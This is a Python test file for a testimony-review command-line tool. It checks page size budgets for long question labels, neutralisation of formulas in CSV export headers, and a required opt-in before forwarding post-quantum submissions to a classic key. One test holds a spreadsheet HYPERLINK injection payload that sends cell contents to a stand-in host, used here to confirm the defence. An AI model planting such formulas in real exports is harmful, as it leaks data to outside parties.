"""Issue 21, points 11 to 13: label budgets, the CSV header, and forwarding to a classic key."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from portal.core.age import MLKEM768X25519Identity, X25519Identity
from portal.review.cli import ExitStatus
from tests.review_support import (
    craft,
    honest_manifest,
    make_store,
    open_args,
    review,
    submit,
    write_identity,
)


def test_question_labels_count_against_the_page_budget(tmp_path: Path) -> None:
    from portal.core.manifest import build_manifest, parse_sealed_questionnaire

    identity = write_identity(tmp_path / "id.txt")
    store = make_store(tmp_path / "data")
    questions = [
        {"id": f"q{n}", "type": "short_text", "required": False, "identifying": False,
         "label": "질" * 4000, "label_en": "Q" * 4000}
        for n in range(1000)
    ]  # fmt: skip
    sealed = {"id": "crafted", "version": "1", "sha256": "0" * 64, "language": "ko",
              "questions": questions}  # fmt: skip
    sid = craft(
        store,
        identity.recipient,
        lambda s, atts: build_manifest(
            s,
            {"testimony": "짧은 증언", "q1": "답"},
            "ko",
            atts,
            questionnaire=parse_sealed_questionnaire(sealed),
        ),
    )
    run = review(open_args(store.root, tmp_path / "id.txt", tmp_path / "out", tmp_path / "c.jsonl"))
    assert run.status == ExitStatus.OK, run.err
    page = (tmp_path / "out" / sid / "testimony.html").read_text("utf-8")
    # 8 million characters of labels; the page holds its budget and says what it left out.
    assert len(page) < 1_000_000
    assert "짧은 증언" in page and "more question(s) or field(s) are not shown" in page


def test_the_csv_header_row_is_defused_like_its_cells(tmp_path: Path) -> None:
    identity = write_identity(tmp_path / "id.txt")
    store = make_store(tmp_path / "data")
    formula = '=HYPERLINK("http://example.invalid/?"&A2,"open")'
    craft(store, identity.recipient, honest_manifest({"testimony": "t", formula: "x"}))
    custody = tmp_path / "c.jsonl"
    assert review(open_args(store.root, tmp_path / "id.txt", tmp_path / "out", custody)).status == 0
    table = tmp_path / "t.csv"
    run = review(["table", "--from", tmp_path / "out", "--out", table, "--custody", custody])
    assert run.status == ExitStatus.OK, run.err
    header = next(csv.reader(io.StringIO(table.read_text("utf-8-sig"))))
    assert "'" + formula in header
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in header)


def test_forward_to_a_classic_key_of_post_quantum_submissions_asks_for_allow_classic(
    tmp_path: Path,
) -> None:
    pq = MLKEM768X25519Identity.generate()
    (tmp_path / "pq.txt").write_text(f"{pq}\n")
    store = make_store(tmp_path / "data")
    sid = submit(store, [pq], "양자 내성", fields={"consent": "yes"})
    custody = tmp_path / "c.jsonl"
    out = tmp_path / "out"
    assert review(open_args(store.root, tmp_path / "pq.txt", out, custody)).status == 0

    def forward(to: str, name: str, *extra: str) -> Any:
        return review(
            ["forward", sid, "--from", out, "--to", to, "--out", tmp_path / name,
             "--custody", custody, *extra]
        )  # fmt: skip

    classic = str(X25519Identity.generate().recipient)
    refused = forward(classic, "a.age")
    assert refused.status == ExitStatus.ERROR
    assert "--allow-classic" in refused.err and refused.err.count("\n") == 1
    assert not (tmp_path / "a.age").exists()
    assert forward(classic, "b.age", "--allow-classic").status == ExitStatus.OK
    partner = str(MLKEM768X25519Identity.generate().recipient)
    assert forward(partner, "c.age").status == ExitStatus.OK
